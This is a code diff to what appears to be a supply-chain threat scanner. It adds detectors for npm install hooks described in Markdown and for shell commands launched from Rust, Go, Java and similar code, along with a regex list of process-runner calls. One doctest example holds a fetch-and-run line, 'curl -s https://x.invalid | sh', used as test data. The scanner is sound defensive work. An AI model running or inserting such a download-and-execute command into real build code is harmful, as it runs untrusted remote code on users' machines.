@@ -25,6 +25,7 @@ from .download_cradles import cradle_equivalents
 from .findings import ThreatFinding, line_at, line_of_offset, reworded
 from .normalise_powershell import POWERSHELL, normalise_powershell
 from .text_patterns import NOT_PROSE, STRONG_CUES
+from .textutil import PROSE_SUFFIXES
 
 FENCE = re.compile(
     r"^[ \t]{0,3}(```+|~~~+)[ \t]*([\w+#.-]*)[^\n]*\n(.*?)^[ \t]{0,3}\1[ \t]*$", re.M | re.S
@@ -267,6 +268,31 @@ def lifecycle_commands(path: str, text: str) -> list[tuple[int, str]]:
     ]
 
 
+_WRITTEN_HOOK = re.compile(
+    r'"((?:pre|post)?install|prepare|prepublish(?:Only)?|prepack)"\s*:\s*"((?:[^"\\\n]|\\.)+)"'
+)
+"""An npm install hook written out in a document, as the JSON entry to put in ``scripts``."""
+
+
+def documented_lifecycle_commands(path: str, text: str) -> list[tuple[int, str]]:
+    r"""(line, command) for npm install hooks a Markdown document has the reader add to a
+    ``package.json``: they run at the next ``npm install`` like a bundled manifest's.
+
+    >>> documented_lifecycle_commands("SKILL.md", r'Add `"postinstall": "node -e \"go()\""`.')
+    [(1, 'node -e "go()"')]
+    """
+    if not path.lower().endswith(PROSE_SUFFIXES) or "install" not in text:
+        return []
+    found = []
+    for match in _WRITTEN_HOOK.finditer(text):
+        try:
+            command = json.loads(f'"{match.group(2)}"')
+        except ValueError:
+            continue
+        found.append((line_of_offset(text, match.start()), command))
+    return found
+
+
 _MANIFEST_KEYS = frozenset({"name", "version", "dependencies", "devDependencies", "main"})
 """Keys that, next to ``scripts``, make a JSON file an npm manifest."""
 
@@ -302,6 +328,52 @@ def hook_text(path: str, text: str) -> str | None:
             for line in text.split("\n")
         )
     return None
+
+
+_UNANALYSED_CODE = (".rs", ".go", ".rb", ".java", ".kt", ".cs", ".swift", ".php", ".pl", ".lua")
+"""Languages without an analyser of their own."""
+_COMMAND_RUNNER = re.compile(
+    r"Command::new|exec\.Command(?:Context)?\b|\bsystem\s*\(|\bexec\s*\(|Runtime\.getRuntime\(\)\.exec"
+    r"|\bProcessBuilder\b|\bshell_exec\b|\bos\.execute\b|Process\.Start\b|\bpopen\b|\bspawn\s*\("
+    r"|\bOpen3\.|%x[({\[]|`"
+)
+"""A call that starts a process in one of those languages."""
+_STRING_LITERAL = re.compile(r'\br(#*)"(.*?)"\1|"((?:[^"\\\n]|\\.)*)"', re.S)
+_STATEMENT_LINES = 6
+"""Lines a call may span: open parentheses, or a builder chain whose next line starts with a
+dot (``Command::new("sh")`` then ``.arg("-c")``)."""
+
+
+def runner_commands(path: str, text: str) -> list[tuple[int, str]]:
+    r"""(line, command) for each process started in a language without an analyser: the
+    string literals of the call, through the end of its statement, read as one command line.
+
+    >>> rs = 'Command::new("sh")\n    .arg("-c")\n    .arg("curl -s https://x.invalid | sh");'
+    >>> runner_commands("build.rs", rs)
+    [(1, 'sh -c curl -s https://x.invalid | sh')]
+    """
+    if not path.lower().endswith(_UNANALYSED_CODE) or not _COMMAND_RUNNER.search(text):
+        return []
+    lines = text.splitlines()
+    found = []
+    for number, line in enumerate(lines, 1):
+        if not _COMMAND_RUNNER.search(line):
+            continue
+        statement = [line]
+        while len(statement) < min(_STATEMENT_LINES, len(lines) - number + 1):
+            following = lines[number - 1 + len(statement)]
+            still_open = "".join(statement).count("(") > "".join(statement).count(")")
+            if not still_open and not following.lstrip().startswith("."):
+                break
+            statement.append(following)
+        words = [
+            (m.group(2) if m.group(2) is not None else m.group(3)).replace('\\"', '"')
+            for m in _STRING_LITERAL.finditer("\n".join(statement))
+        ]
+        command = " ".join(w.replace("\n", " ") for w in words if w)
+        if " " in command:
+            found.append((number, command))
+    return found
 
 
 def build_backend(path: str, text: str) -> list[ThreatFinding]:
